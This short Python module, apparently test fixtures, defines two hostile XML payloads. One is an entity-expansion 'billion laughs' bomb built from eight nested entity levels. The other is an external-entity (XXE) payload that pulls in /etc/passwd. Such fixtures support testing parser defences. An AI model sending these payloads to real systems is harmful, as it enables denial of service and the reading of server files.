"""XML that harms whoever reads its document type."""

from __future__ import annotations

BOMB = (
    '<!DOCTYPE l [<!ENTITY a "' + "x" * 1000 + '">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(8))
    + "]><l>&i;</l>"
)  # fmt: skip
OUTSIDE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]><l>&a;</l>'
